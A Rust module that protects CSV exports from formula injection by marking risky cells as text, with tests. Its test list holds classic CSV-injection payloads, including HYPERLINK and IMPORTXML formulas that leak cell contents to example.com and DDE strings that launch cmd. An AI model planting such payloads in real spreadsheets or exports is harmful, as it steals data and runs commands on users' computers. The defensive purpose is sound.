//! Keeping spreadsheets from running what a volunteer typed (CSV injection).
//!
//! Excel and LibreOffice take a CSV cell that begins with `=`, `+`, `-`, `@`,
//! a tab or a carriage return as a formula, so a title such as
//! `=HYPERLINK("http://…","Klikšķini")` would run on the office's computer.
//! Following OWASP's advice (<https://owasp.org/www-community/attacks/CSV_Injection>),
//! every CSV this program writes starts such a cell with an apostrophe,
//! which makes it text ([`neutralise`]), and every CSV it reads takes that
//! apostrophe off again ([`restore`]): a value goes out and comes back
//! unchanged. XLSX cells are typed as strings and need none of this.
//!
//! A value that already begins with apostrophes before such a character
//! (`'=x`) gets one more, so that reading it back removes exactly the one
//! added.

use std::borrow::Cow;

/// First characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The character that makes a spreadsheet read a cell as text.
const TEXT_MARK: char = '\'';

/// True when a spreadsheet would take `cell` as a formula, or `cell` is such
/// a value already marked as text (so that its mark survives a round trip).
fn needs_mark(cell: &str) -> bool {
    cell.trim_start_matches(TEXT_MARK)
        .starts_with(&FORMULA_STARTS[..])
}

/// `cell` as it is written to a CSV file: marked as text when a spreadsheet
/// would run it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if needs_mark(cell) {
        Cow::Owned(format!("{TEXT_MARK}{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell read from a CSV file, without the mark [`neutralise`] added.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix(TEXT_MARK) {
        Some(rest) if needs_mark(rest) => rest,
        _ => cell,
    }
}

/// Writes one CSV record with every cell [`neutralise`]d.
pub fn write_record<W: std::io::Write, S: AsRef<str>>(
    writer: &mut csv::Writer<W>,
    cells: impl IntoIterator<Item = S>,
) -> csv::Result<()> {
    let cells: Vec<S> = cells.into_iter().collect();
    let safe: Vec<Cow<'_, str>> = cells.iter().map(|c| neutralise(c.as_ref())).collect();
    writer.write_record(safe.iter().map(|c| c.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// The classic payloads (OWASP and the usual CSV-injection lists).
    const PAYLOADS: &[&str] = &[
        "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Klikšķini\")",
        "=cmd|' /C calc'!A0",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=IMPORTXML(CONCAT(\"http://example.com/?\", A1), \"//a\")",
        "-2+3+cmd|' /C calc'!A0",
    ];

    #[test]
    fn every_classic_payload_is_written_as_text_and_read_back_unchanged() {
        for payload in PAYLOADS {
            let written = neutralise(payload);
            assert!(written.starts_with(TEXT_MARK), "{payload:?} → {written:?}");
            assert_eq!(restore(&written), *payload);
        }
    }

    #[test]
    fn ordinary_text_is_written_as_it_is() {
        for text in ["Ģimeņu diena", "3 stundas", "", "'citāts'", "a=b", " =1"] {
            assert_eq!(neutralise(text), text);
            assert_eq!(restore(text), text);
        }
    }

    #[test]
    fn a_value_already_marked_keeps_its_own_mark() {
        assert_eq!(neutralise("'=1+1"), "''=1+1");
        assert_eq!(restore("''=1+1"), "'=1+1");
    }

    proptest! {
        /// Whatever was typed comes back unchanged, and what a spreadsheet
        /// sees never starts a formula.
        #[test]
        fn any_text_round_trips_and_never_starts_a_formula(text in "['=+@\\t\\r-]{0,3}.{0,12}") {
            let written = neutralise(&text);
            prop_assert!(!written.starts_with(&FORMULA_STARTS[..]));
            prop_assert_eq!(restore(&written), text.as_str());
        }
    }
}
